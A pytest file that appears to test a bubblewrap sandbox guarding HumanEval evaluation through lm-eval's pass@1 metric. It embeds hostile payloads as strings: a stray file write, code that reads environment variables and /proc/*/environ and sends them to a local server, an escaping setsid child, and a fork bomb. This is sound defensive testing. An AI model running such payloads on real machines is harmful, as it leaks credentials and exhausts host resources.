"""HumanEval's test code is untrusted: each payload an attacker would put in a row's `test` runs through the metric
lm-eval calls (`pass_at_1`, the production path) and achieves nothing, while honest solutions still pass.

Each payload is first shown to work without the sandbox (a plain subprocess, as before), so its failure inside
is the sandbox's doing and not a broken payload.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from capsel.errors import CapselError
from capsel.evaluation.harness import working_sandbox
from capsel.evaluation.harness_execution import (
    PROCESS_LIMIT,
    build_predictions,
    find_bwrap,
    pass_at_1,
    reference_of,
    run_program,
)
from tests.support.harness_files import REAL, read_jsonl

SECRET = "capsel-test-secret-4d1f"
SURVIVOR_MARK = "31.4159"


def _through_the_metric(test_code: str, folder: Path, timeout_s: float = 10.0) -> float:
    """pass@1 of a problem whose `test` is the payload, exactly as lm-eval's filter and metric run it."""
    doc = {"prompt": "def f():\n", "test": test_code, "entry_point": "f"}
    predictions = build_predictions([["    return 1\n"]], [doc])[0]
    return pass_at_1([reference_of(doc["test"], doc["entry_point"])], [predictions], str(folder), timeout_s,
                     bwrap=find_bwrap())


def _unsandboxed(test_code: str, folder: Path) -> int:
    """The same program run as a plain subprocess with this process's environment: what the payload does free."""
    program = folder / "free.py"
    program.write_text(f"def f():\n    return 1\n\n{test_code}\n\ncheck(f)\n")
    return subprocess.run([sys.executable, str(program)], cwd=folder, env=os.environ, timeout=30).returncode


def test_a_write_outside_its_folder_changes_nothing(tmp_path):
    target = tmp_path / "outside" / "written.txt"
    target.parent.mkdir()
    payload = f"def check(f):\n    open({str(target)!r}, 'w').write('pwned')\n"
    assert _unsandboxed(payload, tmp_path) == 0 and target.read_text() == "pwned"
    target.unlink()
    assert _through_the_metric(payload, tmp_path / "runs") == 0.0  # the write raised: the test failed
    assert not target.exists()


class _RecordingServer:
    """A TCP server on 127.0.0.1 that keeps every byte sent to it."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        self.socket.settimeout(0.2)
        while True:
            try:
                connection, _ = self.socket.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with connection:
                self.received.append(connection.recv(1 << 20))

    def close(self) -> None:
        self.socket.close()


def test_a_connection_to_a_local_port_with_the_parents_environment_reaches_nothing(tmp_path, monkeypatch):
    monkeypatch.setenv("CAPSEL_TEST_API_KEY", SECRET)
    server = _RecordingServer()
    payload = (
        "import os, socket\n"
        "def check(f):\n"
        "    leaked = repr(dict(os.environ)).encode() + open(f'/proc/{os.getppid()}/environ', 'rb').read()\n"
        f"    with socket.create_connection(('127.0.0.1', {server.port}), timeout=2) as s:\n"
        "        s.sendall(leaked or b'empty')\n"
    )
    try:
        assert _unsandboxed(payload, tmp_path) == 0
        deadline = time.monotonic() + 5
        while not server.received and time.monotonic() < deadline:
            time.sleep(0.05)
        assert SECRET.encode() in b"".join(server.received)  # free, it sends the parent's environment
        server.received.clear()
        assert _through_the_metric(payload, tmp_path / "runs") == 0.0
        time.sleep(0.5)
        assert server.received == []
    finally:
        server.close()


def test_no_environment_or_process_of_the_parent_is_visible(tmp_path, monkeypatch):
    monkeypatch.setenv("CAPSEL_TEST_API_KEY", SECRET)
    # passes (exit 0) only when no secret is anywhere it can read: its environment and every /proc/*/environ
    payload = (
        "import os\n"
        "def check(f):\n"
        f"    assert {SECRET!r} not in repr(dict(os.environ))\n"
        "    pids = [name for name in os.listdir('/proc') if name.isdigit()]\n"
        "    for pid in pids:\n"
        "        try:\n"
        f"            assert {SECRET.encode()!r} not in open(f'/proc/{{pid}}/environ', 'rb').read()\n"
        "        except PermissionError:\n"
        "            pass\n"
        "    assert len(pids) <= 3, pids  # the sandbox's first process, python, and nothing of the host\n"
        "    assert not os.path.exists('/root/.bashrc') and not os.listdir('/home') if os.path.isdir('/home') else True\n"
    )
    assert _unsandboxed(payload, tmp_path) != 0
    assert _through_the_metric(payload, tmp_path / "runs") == 1.0


def _survivors() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and SURVIVOR_MARK.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def test_a_setsid_child_does_not_outlive_its_program(tmp_path):
    payload = (
        "import os\n"
        "def check(f):\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        f"        os.execv('/bin/sleep', ['sleep', {SURVIVOR_MARK!r}])\n"
    )
    assert _unsandboxed(payload, tmp_path) == 0
    time.sleep(0.5)
    free = _survivors()
    assert free  # free, the child outlives its program (and any kill of the program's process group)
    for pid in free:
        os.kill(pid, 9)
    assert _through_the_metric(payload, tmp_path / "runs") == 1.0
    time.sleep(0.5)
    assert _survivors() == []


def test_a_fork_bomb_stops_at_the_process_limit(tmp_path):
    # passes only when fork is refused before 10 times the limit
    payload = (
        "import os, time\n"
        "def check(f):\n"
        "    for n in range(10 * %d):\n"
        "        try:\n"
        "            if os.fork() == 0:\n"
        "                time.sleep(5)\n"
        "                os._exit(0)\n"
        "        except OSError:\n"
        "            return\n"
        "    raise SystemExit(1)\n" % PROCESS_LIMIT
    )
    started = time.monotonic()
    assert _through_the_metric(payload, tmp_path / "runs", timeout_s=8) == 1.0
    assert time.monotonic() - started < 8  # refused at once, not ended by the timeout


@pytest.mark.parametrize("task_id", ["HumanEval/0", "HumanEval/34", "HumanEval/2", "HumanEval/163"])
def test_canonical_solutions_still_pass_and_a_wrong_one_fails(tmp_path, task_id):
    [row] = [row for row in read_jsonl(REAL / "humaneval.jsonl") if row["task_id"] == task_id]
    reference = reference_of(row["test"], row["entry_point"])
    honest = build_predictions([[row["canonical_solution"]]], [row])[0]
    assert pass_at_1([reference], [honest], str(tmp_path), bwrap=find_bwrap()) == 1.0
    wrong = build_predictions([["    return None\n"]], [row])[0]
    assert pass_at_1([reference], [wrong], str(tmp_path), bwrap=find_bwrap()) == 0.0
    assert list(tmp_path.iterdir()) == []  # each program's folder is gone


def test_an_interpreter_in_a_venv_under_tmp_runs_in_the_sandbox(tmp_path):
    # the program gets a fresh /tmp, which hid a venv there (a clone built in /tmp): "execvp ... No such file"
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120)
    python = str(venv / "bin" / "python")
    assert run_program("raise SystemExit(0)\n", tmp_path / "runs", 10.0, python=python, bwrap=find_bwrap())
    assert not run_program("raise SystemExit(1)\n", tmp_path / "runs", 10.0, python=python, bwrap=find_bwrap())


def test_without_a_working_sandbox_nothing_runs_and_one_line_says_what_to_install(tmp_path, monkeypatch):
    monkeypatch.setenv("CAPSEL_BWRAP", "/bin/false")  # a bwrap that cannot set anything up
    with pytest.raises(CapselError) as refused:
        working_sandbox(Path(sys.executable), tmp_path)
    message = str(refused.value)
    assert "\n" not in message and "install bubblewrap" in message and "nothing was run" in message
